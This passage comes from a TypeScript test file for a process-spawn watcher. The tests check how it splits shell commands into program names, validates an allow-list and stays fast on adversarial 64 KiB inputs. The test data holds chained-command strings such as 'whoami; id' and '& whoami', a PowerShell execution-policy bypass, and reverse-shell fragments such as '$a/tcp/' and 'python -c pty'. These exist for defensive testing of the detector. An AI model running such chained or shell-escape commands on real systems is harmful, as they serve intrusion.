  t.same(paths('exec', 'sudo -- whoami; timeout -- 5 id; sudo -u root'), ['sudo', 'whoami', 'timeout', 'id', 'sudo'])
  t.same(paths('spawn', 'sh', ['--', 'script.sh']), ['sh'])
  t.same(paths('spawn', 'bash', ['--rcfile', 'rc', '-c', 'id']), ['bash', 'id'])
  t.same(paths('spawn', 'powershell', ['-ExecutionPolicy', 'Bypass', '-Command', 'whoami', ';', 'id']), ['powershell', 'whoami', 'id'])
  t.same(paths('spawn', 'pwsh', ['-File', 'x.ps1']), ['pwsh'])
  t.same(paths('spawn', 'C:\\Windows\\System32\\cmd.exe', ['/c', 'whoami']), ['C:\\Windows\\System32\\cmd.exe'], 'a Windows path is one name on Linux')
  t.same(paths('spawn', 'cmd', ['/c', 'git status & whoami']), ['cmd', 'git', 'whoami'])
})

test('parseAllowList: entries, and errors that name the entry', async (t) => {
  const list = parseAllowList(['git', 'tool.exe', '/usr/bin/convert', { program: 'tar', args: /^-x/ }, { program: 'tar' }], 'processWatch.allow')
  t.same([...list.names.keys()], ['git', 'tool', 'tar'])
  t.same([...list.paths.keys()], ['/usr/bin/convert'])
  t.same(list.names.get('tar'), [/^-x/, undefined])
  const global = parseAllowList([{ program: 'tar', args: /^-x/g }], 'processWatch.allow')
  const tar = call('execFile', 'tar', ['-xf', 'a'])
  t.same([judgeSpawn(tar, global).allowed, judgeSpawn(tar, global).allowed], [true, true], 'a g flag does not make the second test fail')
  const errors: Array<[unknown, RegExp]> = [
    ['git', /^processWatch\.allow must be an array/], [[''], /processWatch\.allow\[0\] must be a non-empty string/],
    [['git', 5], /processWatch\.allow\[1\] must be a program name or path/], [['a\0b'], /\[0\] must not contain a NUL byte/],
    [[{ program: '' }], /\[0\]\.program must be a non-empty string/], [[{ program: 'git', arg: 'x' }], /\[0\] has an unknown key "arg"/],
    [[{ program: 'git', args: 5 }], /\[0\]\.args must be a RegExp or a string, not number/], [[{ program: 'git', args: '(' }], /\[0\]\.args is not a valid regular expression/],
    [[/git/], /\[0\] must be a program name or path/], [[null], /\[0\] must be a program name or path/], [['.exe'], /\[0\] names no program/],
    [[, 'git'], /\[0\] must be a program name or path/] // a hole in the array is no entry
  ]
  for (const [entries, message] of errors) t.throws(() => parseAllowList(entries, 'processWatch.allow'), { name: 'TypeError', message }, String(message))
  const entry: AllowEntry = { program: 'git', args: 'status' }
  t.same(judgeSpawn(call('exec', 'git status --porcelain'), parseAllowList([entry], 'a')).allowed, false, 'a string pattern must match the arguments whole')
})

test('hostile input: 64 KiB through the scanner and the judge, each in a few ms', async (t) => {
  const K = 65536
  const fill = (unit: string): string => unit.repeat(Math.ceil(K / unit.length)).slice(0, K)
  const inputs: Record<string, string> = {
    '$(((((': '$(' + '('.repeat(K - 2), '$(': fill('$('), '$((': fill('$(('), '((((': fill('('), '))))': fill(')'), '( )': fill('( '),
    "'": fill("'"), '"': fill('"'), '\'"': fill('\'"'), ';': fill(';'), 'a;': fill('a;'), 'a ': fill('a '), a: fill('a'), '\\': fill('\\'),
    '`': fill('`'), '\\`': fill('\\`'), 'x\\`': fill('x\\`'), '`$(': fill('`$('), "$'\\x": "$'" + fill('\\x'), "$'": fill("$'"), '#`': fill('#`'),
    '<<a ': fill('<<a '), '<<a\\n': fill('<<a\n'), 'heredoc of $(': 'cat <<E\n' + fill('$(\n'), '2>': fill('2>'), 'case x in': fill('case x in '),
    'sh -c': fill('sh -c '), 'env': fill('env '), 'eval': fill('eval '), '$a/tcp/': fill('$a/tcp/'), 'python pty': 'python -c ' + fill('pty '),
    '$()': fill('$()'), '${@}': fill('${@}')
  }
  const time = (fn: () => unknown): number => {
    let best = Infinity
    for (let i = 0; i < 3; i++) {
      const start = performance.now()
      fn()
      best = Math.min(best, performance.now() - start)
    }
    return best
  }
  const lines: string[] = []
  for (const [name, text] of Object.entries(inputs)) {
    const scan = time(() => simpleCommands(text))
    const judge = time(() => judgeSpawn(call('exec', text), ALLOW))
    const direct = time(() => judgeSpawn(call('spawn', 'python3', ['-c', text, ...text.split(' ', 1000)]), ALLOW))
    lines.push(`${name.padEnd(14)} scan ${scan.toFixed(1)} ms, judge exec ${judge.toFixed(1)} ms, judge spawn ${direct.toFixed(1)} ms`)
    t.ok(Math.max(scan, judge, direct) < 50, `${JSON.stringify(name)} x 64 KiB: ${Math.max(scan, judge, direct).toFixed(1)} ms`)
  }
  t.comment(lines.join('\n'))
})
